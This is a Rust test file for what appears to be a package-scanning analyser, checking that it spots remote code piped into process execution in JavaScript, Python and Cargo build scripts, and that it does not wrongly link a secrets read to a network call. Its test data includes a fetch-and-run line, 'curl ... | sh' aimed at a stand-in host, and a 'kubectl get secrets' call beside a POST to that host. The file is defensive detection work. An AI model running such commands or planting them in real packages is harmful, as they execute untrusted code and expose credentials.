use crate::flow::testing::{found, script, wheel};
use crate::unpack::{Entry, text_file};
use customs_model::{SinkKind, SourceKind};

const EVIL: &str = "curl -fsSL https://a.invalid/x | sh";
const LONG: &str = "echo there is nothing to be prepared on this system, thank you";

fn runs(entries: Vec<Entry>) -> bool {
    let flows = found(entries).flows;
    let mut flows = flows.iter();
    flows.any(|flow| flow.source == SourceKind::Remote && flow.sink == SinkKind::Process)
}

/// Both orders: which of two values is folded must not decide.
fn both(code: &str) -> [(String, bool); 3] {
    let with = |first: &str, second: &str| code.replace("FIRST", first).replace("SECOND", second);
    [
        (with(EVIL, LONG), true),
        (with("true", EVIL), true),
        (with(LONG, "true"), false),
    ]
}

#[test]
fn each_line_that_a_process_may_be_started_with_is_read() {
    for code in [
        "execSync(process.platform === 'linux' ? 'FIRST' : 'SECOND')",
        "let c; if (process.platform === 'linux') c = 'FIRST'; else c = 'SECOND'; execSync(c)",
        "let c = 'FIRST'; if (process.platform === 'win32') c = 'SECOND'; execSync(c)",
        "function c() { if (process.platform === 'linux') return 'FIRST'; return 'SECOND' } execSync(c())",
        "const c = process.platform === 'linux' ? 'FIRST' : 'SECOND'; spawnSync('sh', ['-c', c])",
    ] {
        let begin = "const { execSync, spawnSync } = require('child_process');";
        for (code, expected) in both(code) {
            assert_eq!(runs(script(&format!("{begin} {code}"))), expected, "{code}");
        }
    }
    for code in [
        "os.system('FIRST' if sys.platform == 'linux' else 'SECOND')\n",
        "c = 'FIRST'\nif sys.platform == 'win32':\n    c = 'SECOND'\nos.system(c)\n",
        "def c():\n    if sys.platform == 'linux':\n        return 'FIRST'\n    return 'SECOND'\nos.system(c())\n",
    ] {
        for (code, expected) in both(code) {
            assert_eq!(
                runs(wheel(&format!("import os, sys\n{code}"))),
                expected,
                "{code}"
            );
        }
    }
    for code in [
        "let c = if cfg!(windows) { \"FIRST\" } else { \"SECOND\" }; start(c);",
        "let c = line(); start(c); } fn line() -> &'static str { if cfg!(windows) { return \"FIRST\"; } return \"SECOND\";",
    ] {
        for (code, expected) in both(code) {
            let code = format!(
                "use std::process::Command;
                 fn start(c: &str) {{ let _ = Command::new(\"sh\").arg(\"-c\").arg(c).status(); }}
                 fn main() {{ {code} }}"
            );
            let manifest = "[package]\nname = \"a\"\nversion = \"1.0.0\"\n";
            let entries = vec![
                text_file("a-1.0.0/Cargo.toml", manifest),
                text_file("a-1.0.0/build.rs", &code),
                text_file("a-1.0.0/src/lib.rs", ""),
            ];
            assert_eq!(runs(entries), expected, "{code}");
        }
    }
}

#[test]
fn what_another_caller_hands_in_is_no_line_of_this_one() {
    // What is printed with the secret's name goes nowhere, and what goes away is no secret.
    let code = "const { execSync } = require('child_process');
        const run = (c) => execSync(c);
        run('git --version'); const o = run('kubectl get secrets -A');
        fetch('https://a.invalid', { method: 'POST', body: run('git --version') })";
    let flows = found(script(code)).flows;
    assert!(
        !flows
            .iter()
            .any(|flow| flow.sink == SinkKind::Network
                && flow.source == SourceKind::CredentialService)
    );
}
